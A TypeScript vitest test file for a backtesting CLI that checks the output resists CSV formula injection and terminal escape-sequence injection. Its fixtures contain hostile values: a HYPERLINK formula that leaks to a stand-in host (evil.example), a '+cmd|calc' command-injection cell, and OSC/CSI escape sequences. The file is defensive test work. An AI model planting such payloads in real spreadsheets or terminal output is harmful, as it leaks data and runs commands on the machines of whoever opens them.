import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isoDate } from '../../src/util/dates.ts';
import { backtest, backtestAsync, tempDir } from '../support/cli.ts';
import { serverEnv, startPostgrest, type PostgrestServer } from '../support/postgrest/index.ts';

/**
 * Issue 18, defect 9: data that attacks whoever opens the results. Symbols that a spreadsheet
 * would run as formulas, peer groups holding terminal escape sequences (OSC retitles the window,
 * CSI clears the screen; the C1 form too). The run must write them so a spreadsheet shows text,
 * print them so the terminal shows them, and keep them exact where they are data (--json, SQL,
 * Supabase).
 */
const SYMBOLS = ['=HYPERLINK("http://evil.example/?leak","click")', '+cmd|calc', '@SUM(A1)', '-2+3', "'=quoted", '-x', 'NORMAL', 'PLAIN'];
const GROUPS = ['Tech\u001b]0;pwned\u0007', 'Energy\u001b[2J\u001b[31m\u009b31m'];
/** Characters no terminal should receive from data: C0 but newline, DEL, C1. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

const csvCell = (s: string) => (/[",\n\r\t]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s);

let dataDir: string;
let runDir: string;
let server: PostgrestServer;

beforeAll(async () => {
  dataDir = join(tempDir(), 'data');
  const sources = tempDir();
  writeFileSync(join(sources, 'universe.csv'), `season,symbol,peer_group,name\n${SYMBOLS.map((s, k) => `2025,${csvCell(s)},${csvCell(GROUPS[k % 2]!)},n${k}`).join('\n')}\n`);
  let seed = 7;
  const rand = () => ((seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31) / 2 ** 31);
  const lines: string[] = [];
  SYMBOLS.forEach((s, k) => {
    let close = 20 + 5 * k;
    for (let day = 20_090; day <= 20_208; day++) {
      const dow = (day + 4) % 7; // 1970-01-01 was a Thursday
      if (dow === 0 || dow === 6) continue;
      close *= 1 + (rand() - 0.5) * 0.06;
      lines.push(`${csvCell(s)},${isoDate(day)},${close.toFixed(4)},${close.toFixed(4)}`);
    }
  });
  writeFileSync(join(sources, 'prices.csv'), `symbol,date,open,close\n${lines.join('\n')}\n`);
  const imported = backtest(['import', join(sources, 'prices.csv'), '--universe', join(sources, 'universe.csv'), '--data', dataDir]);
  expect(imported.code, imported.stderr).toBe(0);
  const out = tempDir();
  const r = backtest(['2025-03-03', '2025-04-30', '2025', '--data', dataDir, '--param', 'lookback=10', '--param', 'minPeers=2', '--param', 'top=2', '--param', 'bottom=2', '--param', 'rebalance=2', '--signals', '--json', '--out', out]);
  expect(r.code, r.stderr).toBe(0);
  runDir = JSON.parse(r.stdout).folder;
  server = await startPostgrest();
}, 120_000);
afterAll(async () => server?.close());

describe('data that attacks whoever opens the results', () => {
  it('no cell of any CSV begins with =, +, -, @, tab, CR or LF unless it is a number (OWASP, CSV Injection)', () => {
    let cells = 0;
    let negatives = 0;
    for (const file of ['summary.csv', 'equity.csv', 'trades.csv', 'diagnostics.csv', 'signals.csv', 'benchmark.csv']) {
      const rows = parse(readFileSync(join(runDir, file)), { relax_column_count: false }) as string[][];
      for (const cell of rows.flat()) {
        cells++;
        if (/^[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$/.test(cell)) {
          if (cell.startsWith('-')) negatives++;
          continue; // a number stays a number
        }
        expect(cell, `${file}: ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r\n]/);
      }
    }
    expect(cells).toBeGreaterThan(1000);
    expect(negatives).toBeGreaterThan(10); // negative returns and drawdowns are written as numbers
    // Written as text: a single quote, inside double quotes (OWASP's example: "'=1+2"";=1+2").
    const trades = readFileSync(join(runDir, 'trades.csv'), 'utf8');
    expect(trades).toContain(`"'=HYPERLINK(""http://evil.example/?leak"",""click"")"`);
    expect(trades).toContain(`"'+cmd|calc"`);
    expect(trades).toContain(`"''=quoted"`); // a quote already there gets one more, so reading back is exact
    const symbols = new Set((parse(trades, { columns: true }) as Array<{ symbol: string }>).map((t) => t.symbol));
    expect([...symbols].some((s) => s.startsWith("'"))).toBe(true);
  });

  it('inspect prints the escape sequences as text, never raw; --json and --sql give the data exactly', () => {
    const view = backtest(['inspect', runDir]);
    expect(view.code, view.stderr).toBe(0);
    expect(view.stdout).not.toMatch(RAW_CONTROL);
    expect(view.stdout).toContain('Tech\\u001b]0;pwned\\u0007');
    const json = backtest(['inspect', runDir, '--json']);
    expect(json.stdout).not.toMatch(RAW_CONTROL);
    expect(JSON.parse(json.stdout).peer_group_ic.map((g: { group: string }) => g.group).sort()).toEqual([...GROUPS].sort());
    const groups = backtest(['inspect', runDir, '--sql', 'SELECT DISTINCT peer_group FROM signals ORDER BY 1', '--json']);
    expect(groups.code, groups.stderr).toBe(0);
    expect(groups.stdout).not.toMatch(RAW_CONTROL);
    expect(JSON.parse(groups.stdout).map((r: { peer_group: string }) => r.peer_group)).toEqual([...GROUPS].sort());
    const table = backtest(['inspect', runDir, '--sql', 'SELECT DISTINCT peer_group, symbol FROM signals ORDER BY 1, 2']);
    expect(table.stdout).not.toMatch(RAW_CONTROL);
    expect(table.stdout).toContain('\\u009b31m');
    // SQL reads the symbols as they were, not as the spreadsheet-safe cells.
    const symbols = backtest(['inspect', runDir, '--sql', 'SELECT DISTINCT symbol FROM signals ORDER BY 1', '--json']);
    expect(JSON.parse(symbols.stdout).map((r: { symbol: string }) => r.symbol)).toEqual([...SYMBOLS].sort());
  });

  it('the upload reads the cells back: Supabase holds the original symbols', async () => {
    const r = await backtestAsync(['upload', runDir], { env: serverEnv(server) });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).not.toMatch(RAW_CONTROL);
    const { rows } = await server.db.query<{ symbol: string }>('select distinct symbol from backtest_trades order by 1');
    const traded = new Set((parse(readFileSync(join(runDir, 'trades.csv')), { columns: true }) as Array<{ symbol: string }>).map((t) => t.symbol));
    expect(rows.length).toBe(traded.size);
    for (const { symbol } of rows) expect(SYMBOLS).toContain(symbol);
    expect(rows.map((r) => r.symbol)).toContain("'=quoted");
  });
});
